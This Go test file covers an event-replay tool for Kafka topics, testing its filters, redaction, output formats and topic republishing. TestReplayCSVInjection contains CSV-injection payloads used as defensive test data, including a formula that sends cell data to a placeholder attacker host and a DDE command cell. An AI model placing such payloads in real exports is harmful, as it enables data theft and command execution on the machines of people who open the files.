package replay_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hamba/avro/v2"
	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/sr"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/sdk/trace/tracetest"
	"go.opentelemetry.io/otel/trace"

	"github.com/hotelbus/hotelbus/schemas"
	"github.com/hotelbus/hotelbus/streams"
	"github.com/hotelbus/hotelbus/streams/replay"
	"github.com/hotelbus/hotelbus/streams/streamstest"
	"github.com/hotelbus/hotelbus/topics"
)

// t0 is the timestamp of the first fixture event; event i is at t0 + i seconds (milliseconds in
// fixtures of more than an hour of events), both in its envelope and as its Kafka record timestamp. It is in the recent past: Kafka refuses record
// timestamps more than an hour ahead (log.message.timestamp.after.max.ms).
var t0 = time.Now().UTC().Add(-2 * time.Hour).Truncate(time.Minute)

// fixtureTypes cycle over the fixture events: event i has type fixtureTypes[i%4].
var fixtureTypes = []string{"reservation.created", "billing.created", "billing.paid", "customer.created"}

const fixtureEvents = 60

// fixture is a prefixed copy of the topics on one backend, holding fixtureEvents events.
type fixture struct {
	b      streamstest.Backend
	prefix string
	cat    *topics.Catalog
	set    *schemas.Set
	serde  *streams.Serde
	src    *sr.Client
	url    string
	events []event
	// pii holds the marker strings written into every pii field of the input.
	pii []string
	// step is the time between two events.
	step time.Duration
}

type event struct {
	env       *streams.Envelope
	partition int32
	offset    int64
	topic     string
}

func loadSchemas(t testing.TB) *schemas.Set {
	t.Helper()
	set, err := schemas.Load(schemas.Embedded())
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// newFixture creates the prefixed topics on b, registers every schema in a fresh registry and
// produces the fixture events (n of them) with explicit record timestamps.
func newFixture(t testing.TB, b streamstest.Backend, n int) *fixture {
	t.Helper()
	ctx := context.Background()
	f := &fixture{b: b, prefix: streamstest.Name(t, "r") + ".", set: loadSchemas(t), step: time.Second}
	if n > 3600 {
		f.step = time.Millisecond
	}
	f.cat = streamstest.PrefixedCatalog(t, b, f.prefix)
	src, url := streamstest.Registry(t)
	f.src, f.url = src, url
	streamstest.RegisterSchemas(t, src, f.cat)
	var err error
	if f.serde, err = streams.NewSerde(src, f.set, f.cat); err != nil {
		t.Fatal(err)
	}
	prod := b.Client(t, kgo.MaxBufferedRecords(100_000))
	recs := make([]*kgo.Record, 0, n)
	for i := range n {
		env := f.fixtureEvent(t, i)
		rec, err := f.serde.Record(ctx, env)
		if err != nil {
			t.Fatal(err)
		}
		rec.Timestamp = env.Timestamp
		recs = append(recs, rec)
		f.events = append(f.events, event{env: env, topic: rec.Topic})
	}
	res := prod.ProduceSync(ctx, recs...)
	if err := res.FirstErr(); err != nil {
		t.Fatal(err)
	}
	for i, r := range recs {
		f.events[i].partition, f.events[i].offset = r.Partition, r.Offset
	}
	return f
}

// fixtureEvent returns event i: its type's golden example with tenant-(i%3), corr-(i%5), a fresh
// eventId, timestamp t0+i*step, grossTotal i*1000 for billing.created, and a unique marker in every
// string under a pii field and in metadata.userId.
func (f *fixture) fixtureEvent(t testing.TB, i int) *streams.Envelope {
	t.Helper()
	et := fixtureTypes[i%len(fixtureTypes)]
	v, _ := f.set.Latest(et)
	env, err := f.serde.ParseJSON(v.Example)
	if err != nil {
		t.Fatal(err)
	}
	env.EventID = fmt.Sprintf("00000000-0000-4000-8000-%012d", i)
	env.Timestamp = t0.Add(time.Duration(i) * f.step)
	env.Metadata.TenantID = fmt.Sprintf("tenant-%d", i%3)
	env.Metadata.CorrelationID = fmt.Sprintf("corr-%d", i%5)
	if et == "billing.created" {
		env.Data["grossTotal"].(map[string]any)["amount"] = big.NewRat(int64(i)*1000+25, 100)
	}
	k := 0
	next := func() string {
		k++
		m := fmt.Sprintf("PIIMARK%03dx%02d", i, k)
		f.pii = append(f.pii, m)
		return m
	}
	f.markPII(v.Data, env.Data, false, next)
	env.Metadata.UserID = next()
	return env
}

// markPII replaces every string under a pii field of v (of schema s) with a fresh marker.
func (f *fixture) markPII(s avro.Schema, v any, inPII bool, next func() string) any {
	if ref, ok := s.(*avro.RefSchema); ok {
		s = ref.Schema()
	}
	switch s := s.(type) {
	case *avro.RecordSchema:
		m, _ := v.(map[string]any)
		for _, fl := range s.Fields() {
			pii, _ := fl.Prop("pii").(bool)
			if m[fl.Name()] != nil {
				m[fl.Name()] = f.markPII(fl.Type(), m[fl.Name()], inPII || pii, next)
			}
		}
	case *avro.UnionSchema:
		for _, b := range s.Types() {
			if b.Type() != avro.Null && v != nil {
				return f.markPII(b, v, inPII, next)
			}
		}
	case *avro.ArraySchema:
		a, _ := v.([]any)
		for i := range a {
			a[i] = f.markPII(s.Items(), a[i], inPII, next)
		}
	case *avro.PrimitiveSchema:
		if _, ok := v.(string); ok && inPII && s.Type() == avro.String {
			return next()
		}
	}
	return v
}

// config returns a replay configuration for the fixture (JSONL to standard output).
func (f *fixture) config() replay.Config {
	c := replay.DefaultConfig()
	c.Brokers, c.Stdout = f.b.Brokers, io.Discard
	return c
}

// run replays c; standard output is returned.
func (f *fixture) run(t *testing.T, c replay.Config) (replay.Summary, *bytes.Buffer) {
	t.Helper()
	var out bytes.Buffer
	c.Stdout = &out
	r, err := replay.New(f.serde, f.cat, c)
	if err != nil {
		t.Fatal(err)
	}
	sum, err := r.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return sum, &out
}

// ids returns the eventIds of JSONL output, in order.
func ids(t *testing.T, jsonl []byte) []string {
	t.Helper()
	var out []string
	for _, line := range bytes.Split(bytes.TrimSpace(jsonl), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var e struct {
			EventID string `json:"eventId"`
		}
		if err := json.Unmarshal(line, &e); err != nil {
			t.Fatalf("not JSON: %v: %s", err, line)
		}
		out = append(out, e.EventID)
	}
	return out
}

// want returns the sorted eventIds of the fixture events keep accepts.
func (f *fixture) want(keep func(i int, e event) bool) []string {
	var out []string
	for i, e := range f.events {
		if keep(i, e) {
			out = append(out, e.env.EventID)
		}
	}
	slices.Sort(out)
	return out
}

func sorted(s []string) []string { s = slices.Clone(s); slices.Sort(s); return s }

func TestReplay(t *testing.T) {
	for _, b := range streamstest.Backends(t) {
		t.Run(b.Name, func(t *testing.T) {
			f := newFixture(t, b, fixtureEvents)
			t.Run("TimeRangeBoundaries", f.testTimeRange)
			t.Run("Filters", f.testFilters)
			t.Run("JSONLIsCanonical", f.testCanonical)
			t.Run("Parquet", f.testParquet)
			t.Run("CSV", f.testCSV)
			t.Run("Redact", f.testRedact)
			t.Run("RedactedErrors", f.testRedactedErrors)
			t.Run("FileModes", f.testFileModes)
			t.Run("ToTopic", f.testToTopic)
		})
	}
}

func (f *fixture) testTimeRange(t *testing.T) {
	c := f.config()
	c.Topics = f.topicNames()
	c.From, c.To = t0.Add(10*time.Second), t0.Add(20*time.Second)
	sum, out := f.run(t, c)
	want := f.want(func(i int, _ event) bool { return i >= 10 && i < 20 })
	if got := sorted(ids(t, out.Bytes())); !slices.Equal(got, want) {
		t.Errorf("[t0+10s, t0+20s) gave %v, want %v", got, want)
	}
	if sum.Matched != 10 || sum.Written != 10 {
		t.Errorf("summary %s, want 10 matched and written", sum)
	}
	c.From, c.To = time.Time{}, t0.Add(time.Second)
	if _, out = f.run(t, c); !slices.Equal(ids(t, out.Bytes()), f.want(func(i int, _ event) bool { return i == 0 })) {
		t.Errorf("--to t0+1s gave %v, want only event 0", ids(t, out.Bytes()))
	}
	c.From, c.To = t0.Add(time.Duration(fixtureEvents-1)*time.Second), time.Time{}
	if _, out = f.run(t, c); !slices.Equal(ids(t, out.Bytes()), f.want(func(i int, _ event) bool { return i == fixtureEvents-1 })) {
		t.Errorf("--from of the last event gave %v, want only it", ids(t, out.Bytes()))
	}
	c.From = time.Time{}
	c.FromOffset = 5
	_, out = f.run(t, c)
	if got, want := sorted(ids(t, out.Bytes())), f.want(func(_ int, e event) bool { return e.offset >= 5 }); !slices.Equal(got, want) {
		t.Errorf("--from-offset 5 gave %d events, want %d", len(got), len(want))
	}
}

func (f *fixture) topicNames() []string {
	var out []string
	for _, e := range f.events {
		if !slices.Contains(out, e.topic) {
			out = append(out, e.topic)
		}
	}
	return out
}

func (f *fixture) testFilters(t *testing.T) {
	typeOf := func(e event) string { return e.env.EventType }
	cases := []struct {
		name string
		set  func(c *replay.Config)
		keep func(i int, e event) bool
	}{
		{"glob", func(c *replay.Config) { c.EventTypes = []string{"billing.*"} },
			func(_ int, e event) bool { return strings.HasPrefix(typeOf(e), "billing.") }},
		{"exact types", func(c *replay.Config) { c.EventTypes = []string{"billing.paid", "customer.created"} },
			func(_ int, e event) bool { return typeOf(e) == "billing.paid" || typeOf(e) == "customer.created" }},
		{"system", func(c *replay.Config) { c.Systems = []string{"hotel-member"} },
			func(_ int, e event) bool { return typeOf(e) == "customer.created" }},
		{"topic", func(c *replay.Config) { tp, _ := f.cat.TopicFor("billing.paid"); c.Topics = []string{tp.Name} },
			func(_ int, e event) bool { return strings.HasPrefix(typeOf(e), "billing.") }},
		{"tenants", func(c *replay.Config) { c.Topics, c.Tenants = f.topicNames(), []string{"tenant-1", "tenant-2"} },
			func(i int, _ event) bool { return i%3 != 0 }},
		{"correlation", func(c *replay.Config) { c.Topics, c.CorrelationID = f.topicNames(), "corr-2" },
			func(i int, _ event) bool { return i%5 == 2 }},
		{"where decimal", func(c *replay.Config) {
			c.EventTypes, c.Where = []string{"billing.created"}, "data.grossTotal.amount >= 300.25"
		}, func(i int, e event) bool { return typeOf(e) == "billing.created" && i >= 30 }},
		{"where envelope", func(c *replay.Config) {
			c.Topics = f.topicNames()
			c.Where = `metadata.tenantId == "tenant-2" && timestamp >= timestamp("` + t0.Add(30*time.Second).Format(time.RFC3339) + `") && eventType.startsWith("billing")`
		}, func(i int, e event) bool { return i%3 == 2 && i >= 30 && strings.HasPrefix(typeOf(e), "billing") }},
		{"where and filters", func(c *replay.Config) {
			c.EventTypes, c.Tenants, c.Where = []string{"*.created"}, []string{"tenant-0"}, `data.propertyId == "KYO01" || eventType == "customer.created"`
		}, func(i int, e event) bool {
			return i%3 == 0 && strings.HasSuffix(typeOf(e), ".created") && (typeOf(e) == "customer.created" || e.env.Data["propertyId"] == "KYO01")
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c := f.config()
			tc.set(&c)
			sum, out := f.run(t, c)
			want := f.want(tc.keep)
			if got := sorted(ids(t, out.Bytes())); !slices.Equal(got, want) {
				t.Errorf("got %d events %v\nwant %d %v", len(got), got, len(want), want)
			}
			if sum.Matched != int64(len(want)) || sum.Written != int64(len(want)) {
				t.Errorf("summary %q, want %d matched and written", sum, len(want))
			}
		})
	}
	t.Run("where errors", func(t *testing.T) {
		c := f.config()
		c.Topics, c.Where = f.topicNames(), "data.grossTotal.amount > 0.0"
		sum, _ := f.run(t, c)
		created := len(f.want(func(_ int, e event) bool { return typeOf(e) == "billing.created" }))
		if sum.Matched != int64(created) || sum.WhereErrors != int64(fixtureEvents-created) || !strings.Contains(sum.Problem, "grossTotal") {
			t.Errorf("summary %q (problem %q), want %d matched and %d where errors naming grossTotal", sum, sum.Problem, created, fixtureEvents-created)
		}
	})
	for expr, frag := range map[string]string{
		"data.amount >":              "^",
		"1 + 1":                      "must be a bool",
		"nosuch == 1":                "undeclared reference to 'nosuch'",
		`metadata.source = "x"`:      "^",
		`eventType == "a" && 3 + ""`: "no matching overload",
	} {
		c := f.config()
		c.Topics, c.Where = f.topicNames(), expr
		_, err := replay.New(f.serde, f.cat, c)
		if !errors.Is(err, replay.ErrConfig) || !strings.Contains(err.Error(), frag) || !strings.Contains(err.Error(), "--where") {
			t.Errorf("--where %q: %v, want ErrConfig naming --where and containing %q", expr, err, frag)
		}
	}
	for _, g := range []string{"nomatch.*", "[bad"} {
		c := f.config()
		c.EventTypes = []string{g}
		if _, err := replay.New(f.serde, f.cat, c); !errors.Is(err, replay.ErrConfig) || !strings.Contains(err.Error(), "--event-type") {
			t.Errorf("--event-type %q: %v, want ErrConfig naming --event-type", g, err)
		}
	}
}

// testCanonical checks that the JSONL lines are exactly the serde's canonical JSON of the events.
func (f *fixture) testCanonical(t *testing.T) {
	c := f.config()
	c.Topics = f.topicNames()
	_, out := f.run(t, c)
	lines := bytes.Split(bytes.TrimSuffix(out.Bytes(), []byte("\n")), []byte("\n"))
	byID := map[string][]byte{}
	for _, l := range lines {
		byID[ids(t, l)[0]] = l
	}
	if len(byID) != fixtureEvents {
		t.Fatalf("%d distinct events, want %d", len(byID), fixtureEvents)
	}
	for _, e := range f.events {
		want, err := f.serde.JSON(e.env)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(byID[e.env.EventID], want) {
			t.Errorf("%s:\n got %s\nwant %s", e.env.EventID, byID[e.env.EventID], want)
		}
	}
}

// pyRead reads a Parquet file with pyarrow.
func pyRead(t *testing.T, python, file string) (types map[string]string, rows []map[string]any) {
	t.Helper()
	cmd := exec.Command(python, "testdata/read_parquet.py", file)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("pyarrow: %v\n%s", err, stderr.Bytes())
	}
	var res struct {
		Types map[string]string `json:"types"`
		Rows  []map[string]any  `json:"rows"`
	}
	if err := json.Unmarshal(out, &res); err != nil {
		t.Fatalf("pyarrow output: %v", err)
	}
	return res.Types, res.Rows
}

func (f *fixture) testParquet(t *testing.T) {
	python := streamstest.Python(t)
	dir := t.TempDir()
	c := f.config()
	c.EventTypes, c.Format, c.Out = []string{"billing.created", "reservation.created", "customer.created"}, replay.Parquet, dir
	sum, _ := f.run(t, c)
	wantTypes := map[string]map[string]string{
		"billing.created": {"timestamp": "timestamp[ms, tz=UTC]", "data.grossTotal.amount": "decimal128(18, 2)",
			"data.createdAt": "timestamp[ms, tz=UTC]", "data.dueAt": "timestamp[ms, tz=UTC]", "data.status": "string",
			"data.lines[].quantity": "int32", "data.lines[].taxes[].taxAmount.amount": "decimal128(18, 2)", "metadata.userId": "string"},
		"reservation.created": {"data.arrivalDate": "date32[day]", "data.adults": "int32", "data.amountAfterTax.amount": "decimal128(18, 2)",
			"data.childrenAges": "list<element: int32 not null>"},
		"customer.created": {"data.birthDate": "string", "data.address.lines": "list<element: string not null>"},
	}
	major := map[string]string{"billing.created": "v1", "reservation.created": "v1", "customer.created": "v2"} // the examples' versions
	total := 0
	for et, types := range wantTypes {
		file := filepath.Join(dir, et+"."+major[et]+".parquet")
		if !slices.Contains(sum.Files, file) {
			t.Fatalf("files %v lack %s", sum.Files, file)
		}
		gotTypes, rows := pyRead(t, python, file)
		for col, typ := range types {
			if gotTypes[col] != typ {
				t.Errorf("%s column %s: pyarrow type %q, want %q", et, col, gotTypes[col], typ)
			}
		}
		want := f.want(func(_ int, e event) bool { return e.env.EventType == et })
		if len(rows) != len(want) {
			t.Fatalf("%s: %d rows, want %d", et, len(rows), len(want))
		}
		total += len(rows)
		for _, row := range rows {
			id, _ := row["eventId"].(string)
			e := f.byID(id)
			if e == nil {
				t.Fatalf("%s: row with unknown eventId %q", et, id)
			}
			canon, err := f.serde.JSON(e.env)
			if err != nil {
				t.Fatal(err)
			}
			var wantRow map[string]any
			_ = json.Unmarshal(canon, &wantRow)
			if !reflect.DeepEqual(normalize(row), wantRow) {
				g, _ := json.Marshal(row)
				t.Errorf("%s %s read by pyarrow:\n got %s\nwant %s", et, id, g, canon)
			}
		}
	}
	if sum.Written != int64(total) {
		t.Errorf("summary %s, want %d written", sum, total)
	}
}

// normalize makes JSON numbers from Python comparable with encoding/json's (float64).
func normalize(v map[string]any) map[string]any {
	b, _ := json.Marshal(v)
	var out map[string]any
	_ = json.Unmarshal(b, &out)
	return out
}

func (f *fixture) byID(id string) *event {
	for i := range f.events {
		if f.events[i].env.EventID == id {
			return &f.events[i]
		}
	}
	return nil
}

func (f *fixture) testCSV(t *testing.T) {
	dir := t.TempDir()
	c := f.config()
	c.EventTypes, c.Format, c.Out = []string{"billing.created"}, replay.CSV, dir
	sum, _ := f.run(t, c)
	b, err := os.ReadFile(filepath.Join(dir, "billing.created.v1.csv"))
	if err != nil {
		t.Fatalf("%v (files %v)", err, sum.Files)
	}
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	header := strings.Split(lines[0], ",")
	for _, col := range []string{"eventId", "timestamp", "data.grossTotal.amount", "data.owner.address.city", "data.lines", "metadata.tenantId"} {
		if !slices.Contains(header, col) {
			t.Errorf("CSV header lacks %s: %v", col, header)
		}
	}
	want := f.want(func(_ int, e event) bool { return e.env.EventType == "billing.created" })
	if len(lines)-1 != len(want) {
		t.Errorf("%d CSV rows, want %d", len(lines)-1, len(want))
	}
	if !strings.Contains(string(b), ",50.25,JPY,") {
		t.Errorf("CSV lacks event 5's exact grossTotal 50.25 JPY:\n%s", b)
	}
}

func (f *fixture) testRedact(t *testing.T) {
	key := []byte("0123456789abcdef-test-key")
	types := []string{"customer.created", "billing.created", "reservation.created", "billing.paid"}
	var written [][]byte
	var python string
	for _, format := range replay.Formats {
		dir := t.TempDir()
		c := f.config()
		c.EventTypes, c.Format, c.Out, c.Redact, c.RedactKey = types, format, dir+"/", true, key
		sum, _ := f.run(t, c)
		if len(sum.Files) != len(types) && format != replay.JSONL {
			t.Errorf("%s: files %v, want one per type", format, sum.Files)
		}
		for _, file := range sum.Files {
			b, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			written = append(written, b)
			if format == replay.Parquet {
				if python == "" {
					python = streamstest.Python(t)
				}
				_, rows := pyRead(t, python, file)
				dump, _ := json.Marshal(rows)
				written = append(written, dump)
			}
		}
	}
	all := bytes.Join(written, []byte("\n"))
	if len(f.pii) == 0 {
		t.Fatal("the fixture has no pii values")
	}
	for _, v := range f.pii {
		if bytes.Contains(all, []byte(v)) {
			t.Errorf("personal value %q appears in the redacted output", v)
		}
	}
	for _, field := range []string{"email", "userId", "token", "last4"} {
		if !bytes.Contains(all, []byte(`"`+field+`":"h:`)) {
			t.Errorf("no hashed %s in the output", field)
		}
	}
	// The hash is keyed and stable: the same run gives the same bytes; another key other hashes.
	c := f.config()
	c.EventTypes, c.Redact, c.RedactKey = []string{"customer.created"}, true, key
	_, a := f.run(t, c)
	_, b := f.run(t, c)
	c.RedactKey = []byte("another-key-0123456789")
	_, other := f.run(t, c)
	if !bytes.Equal(sortedLines(a.Bytes()), sortedLines(b.Bytes())) || bytes.Equal(sortedLines(a.Bytes()), sortedLines(other.Bytes())) {
		t.Errorf("redaction is not stable per key")
	}
}

// testRedactedErrors: --where errors that quote a field value (CEL's timestamp() quotes the string it
// cannot parse; a non-bool result used to be printed) do so without --redact and never with it.
func (f *fixture) testRedactedErrors(t *testing.T) {
	for _, where := range []string{
		`timestamp(metadata.userId) > timestamp("2026-01-01T00:00:00Z")`,
		`eventType == "billing.paid" ? data.card.token : false`,
	} {
		for _, redact := range []bool{false, true} {
			c := f.config()
			c.EventTypes, c.Where, c.Redact, c.RedactKey = []string{"billing.paid"}, where, redact, []byte("0123456789abcdef-test-key")
			sum, _ := f.run(t, c)
			quoted := strings.Contains(sum.Problem, "PIIMARK")
			switch {
			case sum.WhereErrors == 0 || !strings.Contains(sum.Problem, "billing.paid"):
				t.Errorf("--where %s, redact %v: summary %q, problem %q: want where errors placed by event", where, redact, sum, sum.Problem)
			case redact && (quoted || !strings.Contains(sum.Problem, "withheld under --redact")):
				t.Errorf("--where %s under --redact: problem %q quotes a value or does not say it withheld the details", where, sum.Problem)
			case !redact && where[0] == 't' && !quoted:
				t.Errorf("--where %s: problem %q; the test expects CEL to quote the value without --redact", where, sum.Problem)
			}
		}
	}
}

// testFileModes: every output file, in every format, is readable by its owner only (0600), also
// one that existed before with mode 0644.
func (f *fixture) testFileModes(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "out.jsonl")
	if err := os.WriteFile(jsonl, []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	outs := map[replay.Format]string{replay.JSONL: jsonl, replay.CSV: filepath.Join(dir, "csv") + "/", replay.Parquet: filepath.Join(dir, "pq", "new") + "/"}
	var files []string
	for _, format := range replay.Formats {
		c := f.config()
		c.EventTypes, c.Format, c.Out = []string{"billing.*"}, format, outs[format]
		sum, _ := f.run(t, c)
		if len(sum.Files) == 0 {
			t.Fatalf("%s: no files written", format)
		}
		files = append(files, sum.Files...)
	}
	for _, file := range files {
		if st, err := os.Stat(file); err != nil || st.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v, mode %v; want 0600", file, err, st.Mode().Perm())
		}
	}
	if st, err := os.Stat(filepath.Join(dir, "pq", "new")); err != nil || st.Mode().Perm() != 0o700 {
		t.Errorf("created output directory: %v, mode %v; want 0700", err, st.Mode().Perm())
	}
}

func sortedLines(b []byte) []byte {
	l := bytes.Split(b, []byte("\n"))
	slices.SortFunc(l, bytes.Compare)
	return bytes.Join(l, []byte("\n"))
}

func (f *fixture) testToTopic(t *testing.T) {
	ctx := context.Background()
	sandbox := f.cat.WithPrefix("sandbox.")
	adm := kadm.NewClient(f.b.Client(t))
	if _, err := topics.Ensure(ctx, adm, sandbox); err != nil {
		t.Fatal(err)
	}
	target, _ := sandbox.TopicFor("billing.paid")
	c := f.config()
	c.EventTypes, c.ToTopic = []string{"billing.paid"}, target.Name
	// The writes go through the SDK's writer, as a publish: a producer span per record in the
	// event's trace, and the writer's observers told of the owning system's write.
	spans := tracetest.NewSpanRecorder()
	tp := sdktrace.NewTracerProvider(sdktrace.WithSpanProcessor(spans))
	defer tp.Shutdown(context.Background())
	obs := &observed{}
	c.WriterOptions = []streams.ProducerOption{streams.Tracing(tp), streams.Observe(obs)}
	own, _ := f.cat.TopicFor("billing.paid")
	refused := c
	refused.ToTopic = own.Name
	if _, err := replay.New(f.serde, f.cat, refused); !errors.Is(err, replay.ErrConfig) || !strings.Contains(err.Error(), "--allow-owner-topic") {
		t.Errorf("--to-topic %s (the owner's topic): %v, want a refusal naming --allow-owner-topic", own.Name, err)
	}
	sum, _ := f.run(t, c)
	want := f.want(func(_ int, e event) bool { return e.env.EventType == "billing.paid" })
	if sum.Written != int64(len(want)) {
		t.Fatalf("summary %s, want %d written", sum, len(want))
	}

	serde, err := streams.NewSerde(f.src, f.set, sandbox)
	if err != nil {
		t.Fatal(err)
	}
	cons, err := streams.NewConsumer("hotel-member", serde, streams.Brokers(f.b.Brokers...))
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	got := map[string]*streams.Message{}
	all := make(chan struct{})
	cons.HandleType("billing.paid", func(_ context.Context, m *streams.Message) error {
		mu.Lock()
		defer mu.Unlock()
		got[m.Envelope.EventID] = m
		if len(got) == len(want) {
			close(all)
		}
		return nil
	})
	rctx, cancel := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- cons.Run(rctx) }()
	select {
	case <-all:
	case <-time.After(60 * time.Second):
		t.Errorf("the consumer received %d of %d republished events", len(got), len(want))
	}
	cancel()
	<-done
	mu.Lock()
	defer mu.Unlock()
	spanOf := map[string]string{} // "<trace id>-<span id>" of each ended producer span -> its name
	for _, s := range spans.Ended() {
		if s.SpanKind() == trace.SpanKindProducer {
			spanOf[s.SpanContext().TraceID().String()+"-"+s.SpanContext().SpanID().String()] = s.Name()
		}
	}
	if len(spanOf) != len(want) {
		t.Errorf("%d producer spans for %d republished events", len(spanOf), len(want))
	}
	for _, id := range want {
		m := got[id]
		if m == nil {
			continue
		}
		src := f.byID(id)
		tpHeader := streams.Header(m.Record, streams.HeaderTraceparent)
		if parts := strings.Split(tpHeader, "-"); len(parts) != 4 || parts[1] != src.env.Metadata.TraceID || spanOf[parts[1]+"-"+parts[2]] != "write "+target.Name {
			t.Errorf("republished %s: traceparent %q is not the write span of the event's trace %s", id, tpHeader, src.env.Metadata.TraceID)
		}
		if w := src.env.Metadata.Source + " " + target.Name + " " + id; !obs.saw(w) {
			t.Errorf("republished %s: the observers were not told %q", id, w)
		}
		a, _ := f.serde.JSON(src.env)
		b, _ := f.serde.JSON(m.Envelope)
		if !bytes.Equal(a, b) || string(m.Record.Key) != src.env.Metadata.TenantID ||
			streams.Header(m.Record, streams.HeaderEventID) != id ||
			streams.Header(m.Record, replay.HeaderReplayedFrom) != fmt.Sprintf("%s/%d@%d", src.topic, src.partition, src.offset) ||
			!m.Record.Timestamp.Equal(src.env.Timestamp) {
			t.Errorf("republished %s differs: key %q headers %v ts %s\n got %s\nwant %s", id, m.Record.Key, m.Record.Headers, m.Record.Timestamp, b, a)
		}
	}
}

// TestReplayInterrupted: a replay canceled midway (Ctrl-C) returns a summary marked interrupted
// and leaves complete Parquet files: pyarrow reads exactly the records the summary says were
// written.
func TestReplayInterrupted(t *testing.T) {
	python := streamstest.Python(t)
	b := streamstest.Kfake(t)
	f := newFixture(t, b, 12000)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	c := f.config()
	c.EventTypes, c.Format, c.Out = []string{"reservation.created", "billing.created"}, replay.Parquet, t.TempDir()
	c.Progress, c.ProgressInterval = cancelOnWrite{cancel}, time.Millisecond
	r, err := replay.New(f.serde, f.cat, c)
	if err != nil {
		t.Fatal(err)
	}
	sum, err := r.Run(ctx)
	if err != nil {
		t.Fatal(err)
	}
	total := int64(len(f.want(func(_ int, e event) bool {
		return slices.Contains(c.EventTypes, e.env.EventType)
	})))
	if !sum.Interrupted || sum.Written == 0 || sum.Written >= total {
		t.Fatalf("summary %s: want interrupted after some but not all of %d events", sum, total)
	}
	var rows int64
	for _, file := range sum.Files {
		_, rs := pyRead(t, python, file)
		rows += int64(len(rs))
	}
	if rows != sum.Written {
		t.Fatalf("pyarrow read %d rows from %v, the summary says %d written", rows, sum.Files, sum.Written)
	}
	t.Logf("interrupted after %d of %d events; %d files complete", sum.Written, total, len(sum.Files))
}

// cancelOnWrite is a progress writer that cancels the replay at the first progress line showing
// records read ("\r<read>/<total> records ...").
type cancelOnWrite struct{ cancel context.CancelFunc }

func (c cancelOnWrite) Write(p []byte) (int, error) {
	if !bytes.HasPrefix(p, []byte("\r0/")) && bytes.HasPrefix(p, []byte("\r")) {
		c.cancel()
	}
	return len(p), nil
}

// TestReplayCSVInjection: CSV cells that a spreadsheet would run as a formula start with a ' (OWASP
// CSV injection), plain numbers stay numbers, the file is valid CSV, and dropping the first
// character of a cell that starts with ' gives back every raw value.
func TestReplayCSVInjection(t *testing.T) {
	f := newFixture(t, streamstest.Kfake(t), 0)
	v, _ := f.set.Latest("billing.created")
	env, err := f.serde.ParseJSON(v.Example)
	if err != nil {
		t.Fatal(err)
	}
	raw := map[string]string{
		"data.billNumber":               `=HYPERLINK("http://evil.example/?d="&A1,"invoice")`,
		"data.owner.address.city":       "+SUM(1,2)",
		"data.owner.address.postalCode": "-2+3",
		"data.propertyId":               "@cmd|' /C calc'!A0",
		"data.owner.address.region":     "\tTAB",
		"data.owner.name":               "\rCR",
		"data.owner.taxId":              "'=quoted already",
		"data.grossTotal.amount":        "-12.50",
	}
	d := env.Data
	owner := d["owner"].(map[string]any)
	addr := owner["address"].(map[string]any)
	d["billNumber"], d["propertyId"] = raw["data.billNumber"], raw["data.propertyId"]
	addr["city"], addr["postalCode"], addr["region"] = raw["data.owner.address.city"], raw["data.owner.address.postalCode"], raw["data.owner.address.region"]
	owner["name"], owner["taxId"] = raw["data.owner.name"], raw["data.owner.taxId"]
	d["grossTotal"].(map[string]any)["amount"] = big.NewRat(-1250, 100)
	rec, err := f.serde.Record(context.Background(), env)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.b.Client(t).ProduceSync(context.Background(), rec).FirstErr(); err != nil {
		t.Fatal(err)
	}

	dir := t.TempDir()
	c := f.config()
	c.EventTypes, c.Format, c.Out = []string{"billing.created"}, replay.CSV, dir
	f.run(t, c)
	file, err := os.Open(filepath.Join(dir, "billing.created.v1.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	rows, err := csv.NewReader(file).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("not a valid CSV of one event: %v, %d rows", err, len(rows))
	}
	for i, col := range rows[0] {
		cell := rows[1][i]
		want, ok := raw[col]
		if !ok {
			continue
		}
		delete(raw, col)
		if strings.HasPrefix(cell, "'") {
			cell = cell[1:]
		} else if col != "data.grossTotal.amount" {
			t.Errorf("%s: cell %q is not defused", col, rows[1][i])
		}
		if cell != want {
			t.Errorf("%s: raw value %q, want %q (cell %q)", col, cell, want, rows[1][i])
		}
	}
	if len(raw) > 0 {
		t.Errorf("columns missing from the CSV: %v", raw)
	}
}

// nestedAll is a --where expression that loops 10^depth times on every record.
func nestedAll(depth int) string {
	expr := "true"
	for i := depth; i > 0; i-- {
		expr = fmt.Sprintf("[0,1,2,3,4,5,6,7,8,9].all(v%d, v%d >= 0 && %s)", i, i, expr)
	}
	return expr
}

// runWithin runs r with ctx and fails the test when it has not returned after limit.
func runWithin(t *testing.T, ctx context.Context, r *replay.Replay, limit time.Duration) (replay.Summary, time.Duration, error) {
	t.Helper()
	type result struct {
		sum replay.Summary
		err error
	}
	done := make(chan result, 1)
	start := time.Now()
	go func() { s, err := r.Run(ctx); done <- result{s, err} }()
	select {
	case res := <-done:
		return res.sum, time.Since(start), res.err
	case <-time.After(limit):
		t.Fatalf("the replay was still running after %s", limit)
	}
	panic("unreachable")
}

// TestReplayWhereCost: an expression too expensive for one record stops the replay promptly with
// ErrWhereCost naming the limit and its flag; a cheap one passes under the same limit.
